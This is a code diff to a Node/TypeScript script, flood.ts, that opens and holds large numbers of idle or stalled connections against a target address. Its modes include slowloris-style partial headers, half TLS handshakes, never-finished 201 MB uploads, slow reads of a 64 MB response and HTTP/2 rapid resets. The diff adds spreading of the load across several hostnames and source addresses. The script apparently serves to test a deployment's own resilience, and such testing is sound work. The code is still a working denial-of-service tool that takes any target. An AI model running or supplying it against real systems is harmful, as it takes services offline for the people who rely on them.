@@ -1,19 +1,22 @@
 // Many connections at once that want nothing, as a program of its own in the visitors' namespace:
-// node flood.ts <kind> <how many> <address> <name> [own addresses, with commas]. Holds them, and opens each anew that is closed, until SIGTERM;
+// node flood.ts <kind> <how many> <address> <names> [own addresses], both lists with commas. Holds them, and opens each anew that is closed, until SIGTERM;
 // then prints how many were open at the end, how often one was opened, and the first answers with how often each came.
 import { type ClientHttp2Session, connect as connectHttp2, constants } from 'node:http2'
 import { connect, type Socket } from 'node:net'
 import { setTimeout as sleep } from 'node:timers/promises'
 import { connect as connectTls } from 'node:tls'
 
-const [kind = '', count = '0', address = '', name = '', own = ''] = process.argv.slice(2)
+const [kind = '', count = '0', address = '', given = '', own = ''] = process.argv.slice(2)
+const names = given.split(',')
+let [name = ''] = names
 const froms = own === '' ? [undefined] : own.split(',')
-const WEBSOCKET = `GET /_stcore/stream HTTP/1.1\r\nHost: ${name}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nOrigin: https://${name}\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n`
+const websocket = () =>
+  `GET /_stcore/stream HTTP/1.1\r\nHost: ${name}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nOrigin: https://${name}\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n`
 /** As much of a ClientHello as says that it will be long. */
 const HALF_HELLO = Buffer.from([0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, 0xfc, 0x03, 0x03])
 
 const UPLOAD = 201 * 1024 * 1024
-const upload = `PUT /_stcore/upload_file/x/y HTTP/1.1\r\nHost: ${name}\r\nContent-Length: ${UPLOAD}\r\n\r\n`
+const upload = () => `PUT /_stcore/upload_file/x/y HTTP/1.1\r\nHost: ${name}\r\nContent-Length: ${UPLOAD}\r\n\r\n`
 
 const tcp = (port: number, localAddress?: string): Socket =>
   connect({ port, host: address, ...(localAddress !== undefined && { localAddress }) })
@@ -34,11 +37,11 @@ const KINDS: Readonly<Record<string, (from?: string) => Socket>> = {
   silent: (from) => tcp(443, from),
   'half handshakes': (from) => writing(tcp(443, from), HALF_HELLO),
   'half headers': (from) => writing(tls(from), `GET / HTTP/1.1\r\nHost: ${name}\r\nX-Slow: `),
-  websockets: (from) => writing(tls(from), WEBSOCKET),
+  websockets: (from) => writing(tls(from), websocket()),
   'slow bodies': (from) => writing(tls(from), `POST /x HTTP/1.1\r\nHost: ${name}\r\nContent-Length: 9999\r\n\r\nx`),
-  'begun uploads': (from) => writing(tls(from), upload + 'x'.repeat(65_536)),
+  'begun uploads': (from) => writing(tls(from), upload() + 'x'.repeat(65_536)),
   uploads: (from) => {
-    const socket = writing(tls(from), upload)
+    const socket = writing(tls(from), upload())
     const piece = Buffer.alloc(1 << 20)
     // The last byte never comes.
     let left = UPLOAD - 1
@@ -51,6 +54,11 @@ const KINDS: Readonly<Record<string, (from?: string) => Socket>> = {
     }
     return socket.on('drain', more).on('secureConnect', more)
   },
+  // Asks for 64 MB, and takes none of it.
+  'slow readers': (from) =>
+    writing(tls(from), `GET /big HTTP/1.1\r\nHost: ${name}\r\n\r\n`).once('data', function (this: Socket) {
+      this.pause()
+    }),
   'open http2': (from) => http2(from, () => {}),
   // Each session asks, and takes back what it asked, as fast as it can.
   'rapid resets': (from) =>
@@ -72,8 +80,9 @@ if (!make) throw new Error(`kind: found ${kind}, wanted one of ${Object.keys(KIN
 const said: Record<string, number> = {}
 let [open, opened, resets, stopping] = [0, 0, 0, false]
 
-async function holder(from?: string): Promise<void> {
+async function holder(site: string, from?: string): Promise<void> {
   while (!stopping) {
+    name = site
     const socket = make!(from)
     const { promise, resolve } = Promise.withResolvers<void>()
     opened++
@@ -98,7 +107,7 @@ process.on('SIGTERM', () => {
   process.exit()
 })
 for (let number = 0; number < Number(count); number++) {
-  void holder(froms[number % froms.length])
+  void holder(names[Math.floor(number / froms.length) % names.length]!, froms[number % froms.length])
   if (number % 50 === 49) await sleep(20)
 }
 await sleep(1000)
